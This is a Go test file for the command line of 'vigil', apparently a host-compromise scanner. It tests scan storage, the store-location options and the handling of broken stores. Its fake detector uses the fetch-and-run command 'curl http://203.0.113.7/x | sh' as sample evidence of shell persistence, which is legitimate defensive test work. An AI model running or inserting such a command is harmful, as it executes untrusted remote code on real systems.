package cli

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/vigil-ir/vigil/internal/engine"
	"github.com/vigil-ir/vigil/internal/model"
	"github.com/vigil-ir/vigil/internal/store"
	"github.com/vigil-ir/vigil/internal/store/storetest"
	"github.com/vigil-ir/vigil/internal/testutil"
)

// minimalRoot is the smallest directory target.OpenRoot accepts, plus the
// list the fake detector turns into findings (severity rule path).
const minimalRoot = `
-- etc/passwd --
root:x:0:0:root:/root:/bin/bash
-- etc/os-release --
PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"
-- etc/hostname --
web1
-- etc/machine-id --
0123456789abcdef0123456789abcdef
-- var/lib/dpkg/status --
Package: base-files
Status: install ok installed

-- etc/fake-findings --
critical persistence.shell.command /etc/profile.d/z-update.sh
low scan.coverage.incomplete /etc/gshadow
`

// fakeDetector emits the findings listed in the target's /etc/fake-findings,
// so a test changes findings between scans by editing the fixture.
type fakeDetector struct{}

func (fakeDetector) Name() string    { return "fake" }
func (fakeDetector) Version() int    { return 1 }
func (fakeDetector) NeedsLive() bool { return false }
func (fakeDetector) Rules() []string {
	return []string{"persistence.shell.command", "persistence.ldso.preload", "scan.coverage.incomplete"}
}
func (fakeDetector) Run(_ context.Context, env *engine.Env) error {
	b, ok := env.ReadFile("/etc/fake-findings")
	if !ok {
		return nil
	}
	sc := bufio.NewScanner(bytes.NewReader(b))
	for sc.Scan() {
		f := strings.Fields(sc.Text())
		if len(f) != 3 {
			continue
		}
		sev, err := model.ParseSeverity(f[0])
		if err != nil {
			return err
		}
		env.Emit(model.Finding{RuleID: f[1], Subject: f[2], Evidence: model.Evidence{Path: f[2], Line: 1, Text: "curl http://203.0.113.7/x | sh"}}.WithSeverity(sev))
	}
	return nil
}

type cliResult struct {
	out, err string
	code     int
}

// vigil runs the command line with the fake detector and returns what it
// printed and its exit code.
func vigil(t *testing.T, args ...string) cliResult {
	t.Helper()
	ctx := context.WithValue(context.Background(), detectorsKey{}, []engine.Detector{fakeDetector{}})
	var out, errb bytes.Buffer
	code := Run(ctx, args, strings.NewReader(""), &out, &errb)
	return cliResult{out.String(), errb.String(), code}
}

func decode[T any](t *testing.T, r cliResult) T {
	t.Helper()
	var v T
	if err := json.Unmarshal([]byte(r.out), &v); err != nil {
		t.Fatalf("output is not JSON: %v\n%s\nstderr: %s", err, r.out, r.err)
	}
	return v
}

func setFindings(t *testing.T, root, lines string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(root, "etc/fake-findings"), []byte(lines), 0o644); err != nil {
		t.Fatal(err)
	}
}

// snapshot lists every file of dir with its size, mode and mtime.
func snapshot(t *testing.T, dir string) string {
	t.Helper()
	var b strings.Builder
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := d.Info()
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		b.WriteString(rel + " " + info.Mode().String() + " " + info.ModTime().String())
		if !info.IsDir() {
			b.WriteString(" " + strconv.FormatInt(info.Size(), 10))
		}
		b.WriteString("\n")
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestScanSavesOnTheScanningHost(t *testing.T) {
	root := testutil.RootFromString(t, minimalRoot)
	storePath := filepath.Join(t.TempDir(), "state", "vigil.db")
	before := snapshot(t, root)
	r := vigil(t, "scan", "--root", root, "--store", storePath, "--format", "json")
	if r.code != ExitFindings {
		t.Fatalf("exit %d (want 1: a critical finding), stderr %s", r.code, r.err)
	}
	res := decode[model.Result](t, r)
	if len(res.Findings) != 2 {
		t.Fatalf("findings: %+v", res.Findings)
	}
	if after := snapshot(t, root); after != before {
		t.Fatalf("the scan changed the target:\n%s\n---\n%s", before, after)
	}
	for p, want := range map[string]os.FileMode{filepath.Dir(storePath): 0o700, storePath: 0o600} {
		if st, err := os.Stat(p); err != nil || st.Mode().Perm() != want {
			t.Errorf("%s: %v %v, want mode %v", p, st.Mode(), err, want)
		}
	}
	scans := decode[[]store.ScanInfo](t, vigil(t, "scans", "--store", storePath, "--format", "json"))
	if len(scans) != 1 || scans[0].Root != root || scans[0].Live || scans[0].Counts[model.Critical] != 1 || scans[0].UID != res.Meta.ID {
		t.Fatalf("scans: %+v", scans)
	}
	// The table is localised.
	if zh := vigil(t, "scans", "--store", storePath, "--lang", "zh-CN"); !strings.Contains(zh.out, "严重") || !strings.Contains(zh.out, "离线") {
		t.Errorf("zh-CN scans table:\n%s", zh.out)
	}
}

func TestStoreLocation(t *testing.T) {
	root := testutil.RootFromString(t, minimalRoot)
	env := filepath.Join(t.TempDir(), "env.db")
	t.Setenv("VIGIL_STORE", env)
	if r := vigil(t, "scan", "--root", root, "--no-store", "--format", "json"); r.code != ExitFindings {
		t.Fatalf("--no-store scan: exit %d %s", r.code, r.err)
	}
	if _, err := os.Stat(env); err == nil {
		t.Fatal("--no-store wrote the store")
	}
	if r := vigil(t, "scan", "--root", root, "--format", "json"); r.code != ExitFindings {
		t.Fatalf("scan: exit %d %s", r.code, r.err)
	}
	if _, err := os.Stat(env); err != nil {
		t.Fatalf("VIGIL_STORE not used: %v", err)
	}
	for _, args := range [][]string{
		{"--no-store", "--new"}, {"--no-store", "--baseline"}, {"--no-store", "--store", env},
		{"--store", filepath.Join(root, "var/lib/vigil/vigil.db")}, // inside the target
	} {
		r := vigil(t, append([]string{"scan", "--root", root}, args...)...)
		if r.code != ExitError {
			t.Errorf("scan %v: exit %d, want 2", args, r.code)
		}
	}
	if _, err := os.Stat(filepath.Join(root, "var/lib/vigil")); err == nil {
		t.Fatal("a store was created inside the target")
	}
	if r := vigil(t, "scans", "--store", filepath.Join(t.TempDir(), "none.db")); r.code != ExitError || !strings.Contains(r.err, "no store") {
		t.Errorf("scans on a missing store: exit %d %q", r.code, r.err)
	}
}

// A store that cannot be used never costs the result: the scan prints in
// full, the exit status follows the findings, the problem is on stderr.
func TestBrokenStoreScanStillPrints(t *testing.T) {
	root := testutil.RootFromString(t, minimalRoot)
	newer := filepath.Join(t.TempDir(), "newer.db")
	st, err := store.Open(context.Background(), newer, store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	st.Close()
	if err := setSchema(newer, store.LatestSchema()+1); err != nil {
		t.Fatal(err)
	}
	tests := map[string]struct {
		path, want string
	}{
		"garbage":   {writeFile(t, "garbage.db", strings.Repeat("\x00garbage", 5000)), "damaged"},
		"truncated": {truncatedStore(t), "damaged"},
		"newer":     {newer, "newer vigil"},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			r := vigil(t, "scan", "--root", root, "--store", tc.path, "--format", "json", "--baseline")
			if r.code != ExitFindings {
				t.Fatalf("exit %d, want 1; stderr %s", r.code, r.err)
			}
			if res := decode[model.Result](t, r); len(res.Findings) != 2 {
				t.Fatalf("result incomplete: %+v", res)
			}
			if !strings.Contains(r.err, tc.want) || !strings.Contains(r.err, tc.path) {
				t.Errorf("stderr does not explain: %s", r.err)
			}
		})
	}
}

func TestReadOnlyStoreDirScanStillPrints(t *testing.T) {
	if !storetest.Unprivileged(t) {
		return
	}
	root := testutil.RootFromString(t, minimalRoot)
	dir := storetest.ReadOnlyDir(t)
	r := vigil(t, "scan", "--root", root, "--store", filepath.Join(dir, "vigil.db"), "--format", "json")
	if r.code != ExitFindings {
		t.Fatalf("exit %d, want 1; stderr %s", r.code, r.err)
	}
	if res := decode[model.Result](t, r); len(res.Findings) != 2 {
		t.Fatalf("result incomplete: %+v", res)
	}
	if !strings.Contains(r.err, "not writable") || !strings.Contains(r.err, "--store") {
		t.Errorf("stderr does not explain: %s", r.err)
	}
}
